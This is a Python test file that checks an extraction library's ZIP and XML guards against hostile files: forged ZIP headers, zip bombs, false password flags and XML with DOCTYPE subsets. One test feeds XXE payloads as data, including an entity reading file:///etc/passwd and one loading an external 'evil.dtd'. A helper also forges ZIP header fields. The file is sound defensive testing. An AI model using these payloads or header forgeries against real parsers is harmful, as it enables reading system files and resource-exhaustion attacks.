"""The ZIP and XML guards every archive-based reader stands on, tried with hostile files."""

from __future__ import annotations

import os
import struct
import time
import tracemalloc
from pathlib import Path

import pytest

from core.errors import ExtractionFailed
from core.extract import Category
from core.extract.archive import Archive, ZipLimits
from core.extract.xlsx import XlsxExtractor
from core.extract.xmltree import parse, stream
from tests.extract_files import MB, write_zip


def patch_headers(path: Path, name: str, flags: int | None = None, size: int | None = None) -> None:
    """Rewrite what the local and central headers of ``name`` declare, as a forger would."""
    data = bytearray(path.read_bytes())
    encoded = name.encode()
    # (signature, offset of the flags field, offset of the uncompressed size field)
    for signature, flags_at, size_at, name_at in (
        (b"PK\x03\x04", 6, 22, 30),
        (b"PK\x01\x02", 8, 24, 46),
    ):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            if data[start + name_at : start + name_at + len(encoded)] == encoded:
                if flags is not None:
                    data[start + flags_at : start + flags_at + 2] = struct.pack("<H", flags)
                if size is not None:
                    data[start + size_at : start + size_at + 4] = struct.pack("<I", size)
            start += 4
    path.write_bytes(bytes(data))


def failure_of(path: Path, limits: ZipLimits | None = None) -> ExtractionFailed:
    with pytest.raises(ExtractionFailed) as caught, Archive(path, limits) as archive:
        for name in archive.names():
            archive.read(name)
    return caught.value


def test_a_header_that_understates_the_size_stops_the_read(tmp_path: Path) -> None:
    path = write_zip(tmp_path / "liar.zip", {"big.xml": b"<r>" + b"<c>0</c>" * (2 * MB) + b"</r>"})
    patch_headers(path, "big.xml", size=1000)
    started = time.monotonic()
    failed = failure_of(path)
    assert failed.category == Category.CORRUPT
    assert "big.xml" in failed.reason
    assert time.monotonic() - started < 1


def test_too_many_entries_is_a_bomb(tmp_path: Path) -> None:
    path = write_zip(tmp_path / "many.zip", {f"f{n}.txt": b"x" for n in range(50)})
    failed = failure_of(path, ZipLimits(max_entries=20))
    assert failed.category == Category.CORRUPT
    assert "holds 50 files" in failed.reason


def test_one_highly_compressed_part_is_a_bomb_when_read(tmp_path: Path) -> None:
    # Random bytes keep the archive as a whole at a believable ratio.
    parts = {"zeros.bin": bytes(3 * MB), "noise.bin": os.urandom(64 * 1024)}
    path = write_zip(tmp_path / "part.zip", parts)
    with Archive(path, ZipLimits(ratio_floor_bytes=1 * MB)) as archive:
        assert len(archive.read("noise.bin")) == 64 * 1024  # other parts still read
        with pytest.raises(ExtractionFailed) as caught:
            archive.read("zeros.bin")
    assert caught.value.category == Category.CORRUPT
    assert "zeros.bin declares 3.0 MB uncompressed" in caught.value.reason
    with Archive(path, ZipLimits(ratio_floor_bytes=1 * MB, max_ratio=10_000)) as archive:
        assert len(archive.read("zeros.bin")) == 3 * MB


def test_a_large_but_ordinary_part_is_too_large(tmp_path: Path) -> None:
    path = write_zip(tmp_path / "big.zip", {"random.bin": bytes(range(256)) * 8192})
    failed = failure_of(path, ZipLimits(max_entry_bytes=1 * MB))
    assert failed.category == Category.TOO_LARGE
    assert "random.bin is 2.0 MB" in failed.reason


def test_zip_password_means_password(tmp_path: Path) -> None:
    path = write_zip(tmp_path / "locked.zip", {"secret.xml": b"<a/>"})
    patch_headers(path, "secret.xml", flags=0x1)
    assert failure_of(path).category == Category.PASSWORD


def test_missing_part_is_corrupt_and_names_are_matched_without_case(tmp_path: Path) -> None:
    path = write_zip(tmp_path / "parts.zip", {"Content.XML": b"<a/>"})
    with Archive(path) as archive:
        assert archive.read("content.xml") == b"<a/>"
        assert archive.read_optional("meta.xml") is None
        with pytest.raises(ExtractionFailed) as caught:
            archive.read("meta.xml")
    assert caught.value.category == Category.CORRUPT
    assert "meta.xml" in caught.value.reason


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE a [<!ENTITY e "expanded">]>',
        '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]>',
        "<!DOCTYPE a [<!ELEMENT a ANY>]>",
    ],
)
def test_xml_with_an_internal_doctype_subset_is_refused(declaration: str) -> None:
    with pytest.raises(ExtractionFailed) as caught:
        parse(f'<?xml version="1.0"?>{declaration}<a>&e;</a>'.encode(), "part.xml")
    assert caught.value.category == Category.CORRUPT


def test_xml_with_an_external_doctype_only_is_read() -> None:
    xml = b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://x/y.dtd"><a>ok&nbsp;</a>'
    assert parse(xml, "page.xhtml").text == "ok"


def test_streamed_xml_keeps_memory_flat(tmp_path: Path) -> None:
    rows = 100_000
    chunks = [b"<sheet>"] + [b"<row><c>%d</c></row>" % n for n in range(rows)] + [b"</sheet>"]
    tracemalloc.start()
    try:
        total = sum(int(row[0].text or 0) for _event, row in stream(chunks, "sheet.xml", {"row"}))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert total == rows * (rows - 1) // 2
    assert peak < 10 * MB  # a tree of 100,000 rows kept whole would take far more


def test_a_huge_sheet_is_read_in_bounded_time(tmp_path: Path) -> None:
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>item {n}</t></is></c>'
        f'<c r="B{n}"><v>{n * 1.5}</v></c></row>'
        for n in range(1, 100_001)
    )
    path = write_zip(
        tmp_path / "huge.xlsx",
        {
            "[Content_Types].xml": b"<Types/>",
            "xl/workbook.xml": f"<workbook {ns}><sheets/></workbook>".encode(),
            "xl/worksheets/sheet1.xml": (
                f"<worksheet {ns}><sheetData>{rows}</sheetData></worksheet>".encode()
            ),
        },
    )
    started = time.monotonic()
    document = XlsxExtractor().extract(path)
    assert time.monotonic() - started < 10
    assert len(document.pieces) == 2500
    assert document.pieces[-1].location == "sheet1, rows 99961-100000"
    assert document.pieces[-1].text.endswith("item 100000 | 150000")


def test_an_archive_from_an_unknown_zip_version_is_corrupt(tmp_path: Path) -> None:
    path = write_zip(tmp_path / "future.zip", {"a.xml": b"<a/>"})
    data = bytearray(path.read_bytes())
    central = data.find(b"PK\x01\x02")
    data[central + 6 : central + 8] = struct.pack("<H", 255)  # "version needed": 25.5
    path.write_bytes(bytes(data))
    assert failure_of(path).category == Category.CORRUPT


@pytest.mark.parametrize("encoding", ["UT4-8", "Shift_JIS"])
def test_xml_in_an_encoding_expat_cannot_read_is_corrupt(encoding: str) -> None:
    with pytest.raises(ExtractionFailed) as caught:
        parse(f'<?xml version="1.0" encoding="{encoding}"?><a/>'.encode(), "part.xml")
    assert caught.value.category == Category.CORRUPT
